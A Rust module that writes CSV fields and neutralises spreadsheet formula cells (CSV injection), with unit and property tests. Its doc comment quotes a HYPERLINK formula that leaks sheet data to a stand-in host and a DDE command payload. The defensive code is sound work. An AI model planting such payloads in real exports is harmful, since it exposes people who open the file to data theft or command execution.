//! CSV fields (RFC 4180) and what a spreadsheet must not read as a formula: [`CsvFormulas`].

use serde_json::Value;

/// Whether a CSV export neutralises cells a spreadsheet would run as a formula (CSV injection).
///
/// A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
/// LibreOffice and Google Sheets: `=HYPERLINK("https://evil.example/?"&A1,"Click")` leaks the sheet,
/// `=cmd|'/C calc'!A0` ran commands on older Excel. A query result is data, often written by
/// someone other than the person who opens the export, so by default ([`CsvFormulas::Neutralize`])
/// such a cell, string value or column name, gets a leading `'` (OWASP's rule), and a field holding
/// `;` is quoted (a spreadsheet set to split on `;` cannot cut a formula out of it). JSON numbers are
/// written as they are: `-5` is a number, not a formula, and a spreadsheet reads it as one. Only
/// strings are changed, and only in CSV exports (JSON, NDJSON and Arrow carry values exactly).
///
/// The price: a string such as `"-5"` or `"+1 555 0100"` reads back as `'-5`, `'+1 555 0100`. A
/// consumer that parses the CSV itself and wants the values verbatim sets
/// [`CsvFormulas::Verbatim`] with [`DualHttpBuilder::csv_formulas`](crate::DualHttpBuilder::csv_formulas).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
#[non_exhaustive]
pub enum CsvFormulas {
    /// Prefix `'` to a string cell or column name starting with `=`, `+`, `-`, `@`, tab or CR, and
    /// quote a field holding `;` (the default).
    #[default]
    Neutralize,
    /// Write every string as it is (RFC 4180 quoting only).
    Verbatim,
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

impl CsvFormulas {
    /// Whether `text`, written as a cell, gets the `'` prefix.
    fn guards(self, text: &str) -> bool {
        self == Self::Neutralize && text.starts_with(FORMULA_STARTS)
    }

    /// Whether `text` must be quoted: RFC 4180's reasons (a comma, a quote, CR or LF; the empty
    /// string, so that it stays distinct from a null), and with neutralisation a `;`.
    fn quotes(self, text: &str) -> bool {
        text.is_empty()
            || text.contains([',', '"', '\r', '\n'])
            || (self == Self::Neutralize && text.contains(';'))
    }
}

/// A CSV field for a JSON value: null or absent as an empty field, strings as themselves, numbers and
/// booleans as their JSON text (never neutralised: `-5` is a number), arrays and objects as their
/// JSON text (quoted as needed).
pub(crate) fn value(
    value: Option<&Value>,
    formulas: CsvFormulas,
    out: &mut Vec<u8>,
) -> Result<(), serde_json::Error> {
    match value {
        None | Some(Value::Null) => {}
        Some(Value::String(text)) => self::text(text, formulas, out),
        Some(value @ (Value::Bool(_) | Value::Number(_))) => serde_json::to_writer(&mut *out, value)?,
        Some(value) => text(&serde_json::to_string(value)?, formulas, out),
    }
    Ok(())
}

/// An RFC 4180 field for `text`: quoted when [`CsvFormulas::quotes`] says so (quotes doubled),
/// prefixed with `'` when [`CsvFormulas::guards`] says so.
pub(crate) fn text(text: &str, formulas: CsvFormulas, out: &mut Vec<u8>) {
    let guard = formulas.guards(text);
    let quote = formulas.quotes(text);
    if quote {
        out.push(b'"');
    }
    if guard {
        out.push(b'\'');
    }
    if quote {
        for piece in text.split_inclusive('"') {
            out.extend_from_slice(piece.as_bytes());
            if piece.ends_with('"') {
                out.push(b'"');
            }
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(text.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn field(text: &str, formulas: CsvFormulas) -> String {
        let mut out = Vec::new();
        super::text(text, formulas, &mut out);
        String::from_utf8(out).unwrap_or_default()
    }

    /// One RFC 4180 field back to its text (the inverse of quoting).
    fn unquote(field: &str) -> String {
        match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
            Some(inner) => inner.replace("\"\"", "\""),
            None => field.to_owned(),
        }
    }

    #[test]
    fn formula_starts_get_a_quote_mark() {
        for (text, neutralized) in [
            ("=1+2", "'=1+2"),
            ("+1", "'+1"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("=HYPERLINK(\"x\",\"y\")", "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\""),
            ("=1,2", "\"'=1,2\""),
            ("a;=1+2", "\"a;=1+2\""),
            ("'=1", "'=1"),
            (" =1", " =1"),
            ("a=1", "a=1"),
            ("", "\"\""),
            ("plain", "plain"),
        ] {
            assert_eq!(field(text, CsvFormulas::Neutralize), neutralized, "{text:?}");
        }
    }

    #[test]
    fn verbatim_is_plain_rfc_4180() {
        assert_eq!(field("=1+2", CsvFormulas::Verbatim), "=1+2");
        assert_eq!(field("-5", CsvFormulas::Verbatim), "-5");
        assert_eq!(field("a;b", CsvFormulas::Verbatim), "a;b");
        assert_eq!(field("=1,2", CsvFormulas::Verbatim), "\"=1,2\"");
    }

    #[test]
    fn numbers_are_not_formulas() {
        for (json, csv) in [
            (json!(-5), "-5"),
            (json!(-0.5), "-0.5"),
            (json!(true), "true"),
            (json!("-5"), "'-5"),
            (json!(["=x"]), "\"[\"\"=x\"\"]\""),
            (Value::Null, ""),
        ] {
            let mut out = Vec::new();
            assert!(value(Some(&json), CsvFormulas::Neutralize, &mut out).is_ok());
            assert_eq!(String::from_utf8(out).ok().as_deref(), Some(csv), "{json}");
        }
    }

    proptest! {
        #[test]
        fn neutralised_cells_never_start_a_formula(text in "[=+\\-@\t\r;,\"a' ]{0,8}") {
            let cell = unquote(&field(&text, CsvFormulas::Neutralize));
            prop_assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
            if text.starts_with(FORMULA_STARTS) {
                prop_assert_eq!(cell, format!("'{text}"));
            } else {
                prop_assert_eq!(cell, text);
            }
        }

        #[test]
        fn verbatim_cells_read_back_as_they_were(text in "\\PC{0,12}|[=+\\-@\t\r\n;,\"]{0,8}") {
            prop_assert_eq!(unquote(&field(&text, CsvFormulas::Verbatim)), text);
        }
    }
}
